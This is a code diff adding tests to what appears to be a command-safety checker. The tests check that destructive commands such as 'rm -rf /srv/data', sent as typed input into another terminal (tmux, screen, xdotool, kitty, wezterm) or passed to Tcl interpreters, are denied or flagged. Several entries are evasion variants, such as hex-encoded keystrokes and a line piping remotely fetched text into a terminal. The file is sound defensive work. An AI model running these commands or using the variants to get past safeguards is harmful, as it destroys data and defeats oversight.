@@ -123,4 +123,71 @@ describe('commands planted for later are judged as the commands they become', ()
       assert.equal(new Set(names).size, names.length);
     });
   });
+
+  describe('keystrokes typed into another terminal run there as shell commands', () => {
+    const cases: [string, string, string[]][] = [
+      ["tmux send-keys -t 0 'rm -rf /srv/data' Enter", 'deny', ['file-destroy']],
+      ["tmux send -l 'rm -rf /srv/data'", 'deny', ['file-destroy']],
+      ['tmux send-keys -t 0 rm Space -rf Space /srv/data C-m', 'deny', ['file-destroy']],
+      ['tmux send-keys -H 72 6d 20 2d 72 66 20 2f 73 72 76 0d', 'deny', ['file-destroy']],
+      ["tmux set-buffer 'rm -rf /srv/data' \\; paste-buffer -t 0", 'deny', ['file-destroy']],
+      ["tmux -c 'rm -rf /srv/data'", 'deny', ['file-destroy']],
+      ["screen -S main -X stuff 'rm -rf /srv/data\\n'", 'deny', ['file-destroy']],
+      ['screen -x main -p 0 -X stuff "rm -rf /srv/data^M"', 'deny', ['file-destroy']],
+      ['screen -S s -X at 0 stuff "rm -rf /srv/data^M"', 'deny', ['file-destroy']],
+      ['screen -S demo -X screen rm -rf /srv/data', 'deny', ['file-destroy']],
+      ['screen -S demo -X exec rm -rf /srv/data', 'deny', ['file-destroy']],
+      ["xdotool type 'rm -rf /srv/data'", 'deny', ['file-destroy']],
+      ['xdotool key r m space minus r f space slash s r v Return', 'deny', ['file-destroy']],
+      [
+        "xdotool search --name term windowactivate --sync type --delay 50 'rm -rf /srv/data'",
+        'deny',
+        ['file-destroy'],
+      ],
+      ["kitty @ send-text --match title:x 'rm -rf /srv/data\\n'", 'deny', ['file-destroy']],
+      ["wezterm cli send-text --pane-id 2 'rm -rf /srv/data'", 'deny', ['file-destroy']],
+      ["echo 'rm -rf /srv/data' | wezterm cli send-text", 'deny', ['file-destroy']],
+      ['tmux send-keys -t 0 "$CMD" Enter', 'ask', ['opaque-execution']],
+      ['tmux send-keys -t 0 Up Enter', 'ask', ['opaque-execution']],
+      ['tmux send-keys -t 0 rm Tab Enter', 'ask', ['opaque-execution']],
+      ['tmux paste-buffer -t 0', 'ask', ['opaque-execution']],
+      ['screen -S s -X eval "stuff x"', 'ask', ['opaque-execution']],
+      ['xdotool key XF86AudioMute', 'ask', ['opaque-execution']],
+      ['curl -s https://x.example/c | kitty @ send-text --stdin', 'ask', ['opaque-execution']],
+    ];
+    for (const [text, effect, rules] of cases) it(text, () => check(text, effect, rules));
+
+    const benign = [
+      "tmux send-keys -t 0 'ls -la' Enter",
+      "tmux send-keys -t cf 'cd ~/server' C-m",
+      "tmux send-keys -t 0 'rm -rf /srv/data' C-c 'ls' Enter",
+      'tmux send-keys -X copy-mode',
+      'tmux ls',
+      'screen -X quit',
+      'screen -x main -X title blah',
+      'screen -S SessionName -X at ".#" stuff "date "',
+      'kitten @ send-key ctrl+c',
+    ];
+    for (const text of benign) it(`allowed: ${text}`, () => check(text, 'allow', []));
+
+    it('places the typed command on the typed text', () => {
+      const text = "tmux send-keys -t 0 'rm -rf /srv/data' Enter";
+      const f = run(text).analysis.findings.find((x) => x.ruleId === 'file-destroy');
+      assert.equal(text.slice(f?.span.start, f?.span.end), '/srv/data');
+    });
+  });
+
+  describe('Tcl interpreters run code that is not analysed', () => {
+    const cases = [
+      "expect -c 'spawn rm -rf /srv/data; expect eof'",
+      'expect deploy.exp',
+      'expect -f deploy.exp host',
+      'tclsh script.tcl',
+      'tclsh8.6 script.tcl',
+      "echo 'exec rm -rf /srv/data' | tclsh",
+      "wish <<< 'exec rm -rf /srv/data'",
+    ];
+    for (const text of cases) it(text, () => check(text, 'ask', ['opaque-execution']));
+    for (const text of ['expect -v', 'which tclsh']) it(`allowed: ${text}`, () => check(text, 'allow', []));
+  });
 });
